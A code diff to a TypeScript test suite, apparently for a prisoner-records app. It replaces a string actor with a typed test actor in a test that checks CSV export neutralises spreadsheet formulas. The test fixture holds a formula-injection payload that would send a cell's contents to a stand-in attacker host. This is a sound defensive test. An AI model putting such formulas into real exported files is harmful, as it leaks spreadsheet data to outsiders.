@@ -7,6 +7,10 @@ import { CreateSourceDto } from '../../../src/modules/sources/sources.dto'
 import { SourcesService } from '../../../src/modules/sources/sources.service'
 import { validateDto } from '../../../src/shared/dto'
 import { SEED, TestApp, buildTestApp } from '../../helpers/test-app'
+import type { Actor } from '../../../src/core/access/actors'
+
+/** Records written straight through the service, as the seed writes them. */
+const TEST_ACTOR: Actor = { name: 'test', key: null, role: 'seed' }
 
 const TODAY = new Date().toISOString().slice(0, 10)
 
@@ -148,7 +152,7 @@ t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', a
   const hostile = '=HYPERLINK("https://attacker.example/?leak="&A1,"Ihar")'
   const source = await new SourcesService(database).create(
     validateDto(CreateSourceDto, { title: 'A hostile page', kind: 'other', content: `The list names ${hostile} among the freed.` }, 'body'),
-    { actor: 'test' },
+    { actor: TEST_ACTOR },
   )
   const cited = (quote: string) => [{ sourceId: source.id, quote }]
   const written = await new PrisonersService(database).create(
@@ -160,7 +164,7 @@ t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', a
       },
       'body',
     ),
-    { actor: 'test' },
+    { actor: TEST_ACTOR },
   )
   const rows = csvRows(text(await download(http, 'csv')))
   t.equal(rows.length, 15)
